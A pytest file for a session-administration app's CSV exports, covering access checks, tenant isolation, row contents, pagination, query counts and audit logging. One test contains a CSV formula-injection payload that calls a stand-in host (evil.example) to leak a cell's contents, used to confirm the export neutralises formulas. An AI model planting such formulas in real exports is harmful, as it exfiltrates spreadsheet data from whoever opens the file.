"""/sessions/export.csv and /users/export.csv: what is in the files, for whom, at what cost."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest

from sessions_admin.lifecycle import end_sessions
from sessions_admin.models import AuditEvent, Session
from sessions_admin.views import exports
from sessions_admin.vocabulary import AuditAction, EndReason
from tenants.belonging import suspend_membership
from tenants.models import Membership, Tenant
from tests.cast import HOME
from tests.crowd import crowd, give, session_of
from tests.holdings import LYON, hold

OWN, USERS = "/sessions/export.csv", "/users/export.csv"
DAY = timedelta(days=1)


def read(response):
    """The rows below the headings, each by its headings."""
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


def long_after_the_proof(browser, age=timedelta(hours=13)):
    Session.objects.filter(pk=browser.session_row.pk).update(
        authenticated_at=datetime.now(UTC) - age
    )


# --- who gets it -------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [OWN, USERS])
def test_it_asks_a_visitor_to_sign_in(browser_of, cast, url):
    assert browser_of().get(url).url.startswith("/accounts/login/")


@pytest.mark.parametrize("url", [OWN, USERS])
def test_it_only_reads(browser_of, admin, url):
    assert browser_of(admin).post(url).status_code == 405


@pytest.mark.parametrize(("url", "section"), [(OWN, "sessions"), (USERS, "users")])
def test_it_is_not_there_where_the_section_is_off(browser_of, admin, acme, url, section):
    Tenant.objects.filter(pk=acme.pk).update(sections=acme.sections - {section})
    assert browser_of(admin).get(url).status_code == 404


@pytest.mark.parametrize(
    ("permissions", "status"),
    [
        ([], 403),
        (["users.view"], 403),
        (["sessions.view"], 403),
        (["users.view", "sessions.view"], 200),
    ],
)
def test_people_are_for_who_sees_them_and_their_sessions(
    browser_of, auditor, acme, permissions, status
):
    give(auditor, acme, *permissions)
    assert browser_of(auditor).get(USERS).status_code == status


@pytest.mark.parametrize("url", [OWN, USERS])
def test_it_wants_a_fresh_proof(browser_of, admin, url):
    browser = browser_of(admin)
    long_after_the_proof(browser)
    assert browser.get(url).url.startswith("/accounts/reauthenticate/")


def test_people_want_a_fresher_proof_than_ones_own_sessions(browser_of, admin):
    browser = browser_of(admin)
    long_after_the_proof(browser, age=timedelta(minutes=11))
    assert browser.get(OWN).status_code == 200
    assert browser.get(USERS).url.startswith("/accounts/reauthenticate/")


# --- one's own sessions ------------------------------------------------------------------------


def test_it_writes_a_session_in_full(browser_of, member, admin, acme):
    at = datetime(2026, 1, 2, 3, 4, 5, 678, tzinfo=UTC)
    browser = browser_of(member)
    session = hold(member, acme, ip="192.0.2.8", place=LYON, label="Kiosk")
    end_sessions(
        Session.objects.filter(pk=session.pk), reason=EndReason.REVOKED_BY_ADMIN, actor=admin
    )
    ended = datetime.now(UTC) - DAY
    Session.objects.filter(pk=session.pk).update(
        started_at=at, authenticated_at=at + DAY, last_seen_at=at + 2 * DAY, ended_at=ended
    )
    assert read(browser.get(OWN))[1] == {
        "id": str(session.pk),
        "state": "ended",
        "tenant": "Acme",
        "name": "Kiosk",
        "device": "Firefox 145 on Linux",
        "IP address": "192.0.2.8",
        "place": "Lyon, France",
        "started": "2026-01-02T03:04:05Z",
        "signed in": "2026-01-03T03:04:05Z",
        "last active": "2026-01-04T03:04:05Z",
        "ended": f"{ended:%Y-%m-%dT%H:%M:%SZ}",
        "reason": "revoked_by_admin",
        "ended by": "Ann Lee, an administrator of Acme",
    }


def test_it_lists_live_ones_and_those_that_ended_in_ninety_days(browser_of, member, acme):
    browser = browser_of(member)
    sessions = [
        session_of(member, acme, minutes=60 * 24 * 89, ended=True),
        session_of(member, acme, minutes=60 * 24 * 91, ended=True),
        session_of(member, acme, minutes=60 * 25),  # idle for longer than 24 h, not tidied
    ]
    Session.objects.bulk_create(sessions)
    rows = read(browser.get(OWN))
    assert [(row["id"], row["state"]) for row in rows] == [
        (str(browser.session_row.pk), "live"),
        (str(sessions[0].pk), "ended"),
    ]
    assert (rows[0]["ended"], rows[0]["reason"], rows[0]["ended by"]) == ("", "", "")
    assert rows[0]["IP address"] == HOME


def test_what_nobody_did_is_told_by_its_kind(browser_of, member, acme):
    browser = browser_of(member)
    session_of(member, acme, ended=True, end_reason=EndReason.IDLE_TIMEOUT).save(force_insert=True)
    assert [row["ended by"] for row in read(browser.get(OWN))] == ["", "policy"]


def test_it_holds_all_of_ones_tenants_and_nobody_elses(browser_of, contractor, owner, acme, globex):
    browser = browser_of(contractor)
    hold(contractor, acme)
    hold(contractor, globex)
    hold(owner, acme, label="Owner’s laptop")
    rows = read(browser.get(OWN))
    assert {"Acme", "Globex"} <= {row["tenant"] for row in rows}
    assert len(rows) == 3
    assert "Owner’s laptop" not in {row["name"] for row in rows}


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_stays_text(browser_of, member, acme, beginning):
    formula = f'{beginning}HYPERLINK("https://evil.example/?"&A1)'
    browser = browser_of(member)
    hold(member, acme, label=formula)
    assert f"'{formula}" in {row["name"] for row in read(browser.get(OWN))}


@pytest.mark.parametrize(
    ("typed", "written"),
    [("a;=1+1", "a;'=1+1"), ("a; @x;b", "a;' @x;b"), ("\uff1d1+1", "'\uff1d1+1"),
     (" =1+1", "' =1+1"), ("a-b;c", "a-b;c"), ("1 - 2", "1 - 2"), ("a=b", "a=b")],
)  # fmt: skip
def test_nor_is_one_behind_a_semicolon(browser_of, member, acme, typed, written):
    """Where the comma is for decimals, spreadsheets divide at semicolons."""
    browser = browser_of(member)
    hold(member, acme, label=typed)
    assert written in {row["name"] for row in read(browser.get(OWN))}


def test_it_is_a_file_with_the_day_in_its_name(browser_of, member):
    headers = browser_of(member).get(OWN).headers
    assert headers["Content-Type"] == "text/csv; charset=utf-8"
    name = re.fullmatch(r'attachment; filename="(.+)"', headers["Content-Disposition"])[1]
    assert name == f"latchkey-my-sessions-{datetime.now(UTC):%Y-%m-%d}.csv"


@pytest.mark.parametrize("count", [1, 40])
def test_ones_own_cost_four_statements(browser_of, member, acme, count, django_assert_num_queries):
    browser = browser_of(member)
    Session.objects.bulk_create(
        session_of(member, acme, number=number, ended=number % 2) for number in range(2 * count)
    )
    # session · audit log · live · ended
    with django_assert_num_queries(4):
        browser.get(OWN)


# --- people ------------------------------------------------------------------------------------


def names(response):
    return [row["name"] for row in read(response)]


def test_it_writes_a_person_in_full(browser_of, admin, member, acme):
    browser = browser_of(admin)
    sessions = [session_of(member, acme, minutes=30), session_of(member, acme, minutes=90)]
    Session.objects.bulk_create([*sessions, session_of(member, acme, ended=True, minutes=600)])
    [row] = read(browser.get(f"{USERS}?q=dave"))
    assert row == {
        "id": str(member.pk),
        "name": "Dave Moreau",
        "e-mail": "member@acme.test",
        "groups": "Members",
        "state": "active",
        "live sessions": "2",
        "last active": f"{sessions[0].last_seen_at:%Y-%m-%dT%H:%M:%SZ}",
        "two-step sign-in": "no",
    }


def test_it_holds_the_tenants_people_and_nobody_else(browser_of, admin, outsider):
    acme = names(browser_of(admin).get(USERS))
    assert acme == ["Amelia Stone", "Ann Lee", "Carol Weber", "Dave Moreau", "Sam Okafor"]
    globex = names(browser_of(outsider).get(USERS))
    assert "Dave Moreau" not in globex
    assert "Sam Okafor" in globex


def test_sessions_elsewhere_do_not_count(browser_of, admin, contractor, globex):
    session_of(contractor, globex).save(force_insert=True)
    [row] = read(browser_of(admin).get(f"{USERS}?q=okafor"))
    assert (row["live sessions"], row["last active"]) == ("0", "")


def test_it_tells_who_is_shut_out(browser_of, admin, member, contractor, acme):
    type(member).objects.filter(pk=member.pk).update(is_active=False)
    suspend_membership(Membership.objects.get(user=contractor, tenant=acme), actor=admin)
    states = {row["name"]: row["state"] for row in read(browser_of(admin).get(USERS))}
    assert states["Dave Moreau"] == "disabled"
    assert states["Sam Okafor"] == "suspended"
    assert states["Ann Lee"] == "active"


@pytest.mark.parametrize("query", ["?q=lee", "?state=signed_in", "?sort=-name", "?sort=-active"])
def test_it_holds_what_the_page_lists(browser_of, admin, member, query):
    browser_of(member)
    browser = browser_of(admin)
    rows = browser.get(f"/users/{query}").context["rows"]
    assert names(browser.get(USERS + query)) == [person.user.name for person, _ in rows]


def test_the_pages_link_to_their_files(browser_of, admin):
    browser = browser_of(admin)
    assert 'href="/sessions/export.csv"' in browser.get("/sessions/").text
    assert 'href="/users/export.csv?q=lee"' in browser.get("/users/?q=lee&after=x").text


def test_it_goes_on_through_all_pages(browser_of, admin, acme, monkeypatch):
    monkeypatch.setattr(exports, "PEOPLE_AT_ONCE", 10)
    crowd(acme, 25, live=0, ended=0)
    written = names(browser_of(admin).get(f"{USERS}?q=person&sort=email"))
    assert len(written) == 25
    assert sorted(written, key=lambda name: name[-3:]) == written


def test_it_says_when_it_is_cut(browser_of, admin, acme, monkeypatch):
    monkeypatch.setattr(exports, "PEOPLE_AT_ONCE", 10)
    monkeypatch.setattr(exports, "PEOPLE_AT_MOST", 20)
    crowd(acme, 25, live=0, ended=0)
    rows = read(browser_of(admin).get(f"{USERS}?q=person"))
    assert len(rows) == 21
    assert rows[-1]["id"] == "Only the first 20 people are in this file."


def test_who_vanishes_meanwhile_does_not_start_it_anew(browser_of, admin, acme, monkeypatch):
    monkeypatch.setattr(exports, "PEOPLE_AT_ONCE", 10)
    people = crowd(acme, 15, live=0, ended=0)
    lines = iter(browser_of(admin).get(f"{USERS}?q=person&sort=email").streaming_content)
    written = [next(lines) for _ in range(11)]  # the headings and one page
    Membership.objects.filter(user__in=people[10:]).delete()
    assert len([*written, *lines]) == 11


def test_a_name_that_is_a_formula_stays_text(browser_of, admin, member):
    type(member).objects.filter(pk=member.pk).update(display_name="=1+1")
    assert "'=1+1" in names(browser_of(admin).get(USERS))


@pytest.mark.parametrize(("people", "statements"), [(5, 5), (20, 8)])
def test_people_cost_three_statements_a_page(
    browser_of, admin, acme, monkeypatch, django_assert_num_queries, people, statements
):
    monkeypatch.setattr(exports, "PEOPLE_AT_ONCE", 10)
    crowd(acme, people, live=3, ended=2)
    browser = browser_of(admin)
    with django_assert_num_queries(statements):
        assert len(read(browser.get(f"{USERS}?q=person"))) == people


def test_the_log_says_who_took_which_list(browser_of, cast):
    browser = browser_of(cast.admin)
    browser.get(OWN)
    browser.get(USERS, {"q": "dave"}).getvalue()
    own, users = AuditEvent.objects.filter(action=AuditAction.EXPORT_CREATED).order_by("id")
    assert own.data == {"list": "my-sessions"}
    assert users.data == {"list": "users", "filter": "q=dave"}
    for event in (own, users):
        assert (event.actor, event.tenant) == (cast.admin, cast.acme)
        assert event.session_id == browser.session_row.pk
